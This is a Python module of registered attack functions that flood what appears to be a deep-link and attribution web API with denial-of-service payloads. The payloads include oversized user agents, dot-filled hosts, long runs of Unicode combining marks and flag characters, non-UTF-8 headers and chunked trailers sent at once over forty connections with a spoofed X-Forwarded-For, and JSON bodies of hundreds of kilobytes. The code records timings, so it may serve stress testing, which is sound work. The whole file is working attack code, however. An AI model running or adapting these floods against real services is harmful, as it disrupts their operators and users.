"""Texts that take long to compare, to match or to normalize."""

import json
import time
from contextlib import ExitStack, suppress

from attacks.registry import attack
from attacks.sending import flood, of_network
from traffic import Outcome, connect, read_answers, request


@attack
def user_agents(target, until, number):
    """user agents of 60 KB that matchers may choke on"""
    agents = ["(" * 60_000, "Mozilla/5.0 (" + "Linux; Android " * 4000, "iPhone OS " + "1_" * 28_000, "Version/" * 7000]
    return flood(target, until, [request("GET", target.visit, headers={"User-Agent": agent}) for agent in agents])


@attack
def hosts_of_dots(target, until, number):
    """hosts of 16,000 to 60,000 dots, in headers and in the addresses of links"""
    dots = "https://" + "." * 60_000
    in_address = "https://" + "." * 16_000
    universal = {"branch_key": target.key, "universal_link_url": "https://" + "." * 8000}
    paths = [f"{path}?{key}={in_address}" for path in (target.visit, f"/a/{target.key}") for key in ("$fallback_url", "$og_image_url")]
    app = f"/v1/has-app/{target.key}?browser_fingerprint_id=123456789012345678"
    return flood(target, until, [
        *[request("GET", app, headers={name: dots}) for name in ("Origin", "Referer")],
        request("GET", f"/_r?branch_key={target.key}", headers={"Referer": dots, "Cookie": "_s=123456789012345678"}),
        *[request("GET", path) for path in paths], request("POST", "/v1/open", universal),
    ])


@attack
def combining_marks(target, until, number):
    """60,000 combining marks in a row, in names, addresses and headers"""
    # Marks of two classes, which a normal form sorts.
    marks = "\u0301\u0316" * 30_000
    in_address = "%CC%81%CC%96" * 5000
    in_header = ("\u0301\u0316" * 15_000).encode().decode("latin-1")
    event = {"branch_key": target.key, "name": marks}
    key = {"branch_key": target.key, "name": "pear", marks: 1}
    paths = [f"/{in_address}", f"{target.visit}?~channel={in_address}", f"/v1/credits?identity={in_address}"]
    return flood(target, until, [
        request("POST", "/v1/event", json.dumps(event, ensure_ascii=False).encode()), request("POST", "/v1/event", key),
        request("POST", "/v1/event", f"branch_key={target.key}&name={marks}".encode()),
        *[request("GET", path) for path in paths],
        *[request("GET", target.visit, headers={name: in_header}) for name in ("Origin", "Sec-Fetch-Dest", "Accept-Language")],
        request("OPTIONS", "/v1/event", headers={"Origin": in_header}),
    ])


@attack
def heads_that_are_no_text(target, until, number):
    """headers, trailers and addresses of bytes that are no UTF-8, all of which end at the same moment on forty connections"""
    sender = {"X-Forwarded-For": f"203.0.113.{number}"}
    junk, escapes = "\xff", "%FF" * 20_000
    chunked = request("POST", "/v1/url", b"", sender | {"Transfer-Encoding": "chunked"}).replace(b"Content-Length: 0\r\n", b"")
    chunks = b"2\r\n{}\r\n0\r\n"
    trailers = b"X: " + b"f" * 17_000 + b"\r\nY: " + b"\xff" * 64_000 + b"\r\nZ: " + b"\xff" * 12_000 + b"\r\n\r\n"
    heads = [
        request("GET", target.visit, headers=sender | {"X-Long": junk * 64_000, "X-More": junk * 29_500}),
        request("GET", f"{target.visit}?{escapes}", headers=sender), request("GET", f"/v1/referrals/1?{escapes}", headers=sender),
        request("GET", f"/v1/deepview?callback=a&data={escapes}", headers=sender),
        request("GET", f"/v1/deepview?branch_key={target.key}&a={escapes}", headers=sender),
        chunked + chunks + trailers, chunked + chunks + b"\r\n" + chunked + chunks + trailers,
    ]
    outcome = Outcome()
    turn = 0
    while time.time() < until:
        head = heads[turn % len(heads)]
        turn += 1
        began = time.monotonic()
        with ExitStack() as stack:
            connections = [stack.enter_context(connect(target.port)) for _ in range(40)]
            for ending in (head[:-2], head[-2:]):
                for connection in connections:
                    # The server may have refused it by now.
                    with suppress(OSError):
                        connection.sendall(ending)
            for connection in connections:
                read_answers(connection, 1, [head], outcome)
        outcome.slowest = max(outcome.slowest, time.monotonic() - began)
        outcome.requests += 40
        outcome.sent += 40 * len(head)
        time.sleep(0.5)
    return outcome


@attack
def long_texts(target, until, number):
    """texts of 60 to 480 KB as phone numbers, referrers, names of events, kinds of clients and JSON within JSON"""
    marks = "\u0344\u00e9" * 15_000
    sender = of_network(number, 1)[0]
    start = {"branch_key": target.key, "os": "Android", "hardware_id": f"{number}", "is_hardware_id_real": True}
    values = "[" + "0," * 240_000 + "0]"
    bodies = [
        ("/c" + target.visit, {"branch_key": target.key, "phone": marks}),
        ("/c" + target.visit, {"branch_key": target.key, "phone": "1 " * 30_000}),
        ("/v1/install", start | {"install_referrer_extras": "link_click_id=" * 4000}),
        ("/v1/install", start | {"install_referrer_extras": "&" * 60_000}), ("/v1/event", {"branch_key": target.key, "event": marks * 8}),
        ("/v1/event", {"branch_key": target.key, "event": "View", "params": values}),
        ("/v1/url", {"branch_key": target.key, "data": values}), ("/v1/url", {"branch_key": target.key, "source": marks * 8, "data": {}}),
        ("/v1/event", {"branch_key": target.key, "event": "buy", "metadata": values, "user_data": values}),
        ("/v1/qr-code", {"branch_key": target.key, "data": {}, "qr_code_settings": values}),
        ("/v2/event/standard", {"branch_key": target.key, "name": "PURCHASE", "event_data": {"currency": marks, "revenue": " " * 60_000}}),
    ]
    return flood(target, until, [request("POST", path, json.dumps(body, ensure_ascii=False).encode(), sender) for path, body in bodies])


@attack
def flags(target, until, number):
    """a sign-in of 120 KB of regional indicators, of which two make a flag, and an address of 60 KB of them"""
    sign_in = {"Sec-Fetch-Site": "same-origin", "Content-Type": "application/x-www-form-urlencoded"}
    return flood(target, until, [
        request("POST", "/dashboard/sign-in", ("password=b&name=" + "\U0001F1E6" * 30_000).encode(), sign_in),
        request("POST", "/dashboard/sign-in", ("name=a&password=b&to=" + "\U0001F1E6" * 30_000).encode(), sign_in),
        request("GET", "/dashboard/sign-in?to=" + "%F0%9F%87%A6" * 5000),
    ])


@attack
def keys_with_marks(target, until, number):
    """bodies of 10,000 keys with 30 combining marks each, and paths of 60 KB that a normal form lengthens"""
    # Each decomposes into two marks.
    keys = {f"{index}" + "\u0344" * 15: 1 for index in range(10_000)}
    event = {"branch_key": target.key, "name": "pear", "retryNumber": 1, **keys}
    opened = {"branch_key": target.key, "hardware_id": "pear", "os": "Android", "retryNumber": 1, **dict(list(keys.items())[:1400])}
    return flood(target, until, [
        request("POST", "/v2/event/custom", json.dumps(event, ensure_ascii=False).encode()),
        request("POST", "/v1/open", json.dumps(opened, ensure_ascii=False).encode()),
        request("GET", "/" + "%F0%9D%85%A0" * 5000), request("GET", "/" + "%E1%84%80" * 6500),
        request("GET", f"/a/{target.key}?" + "&".join(f"%24{index}{'%CD%84' * 15}=1" for index in range(160))),
    ])
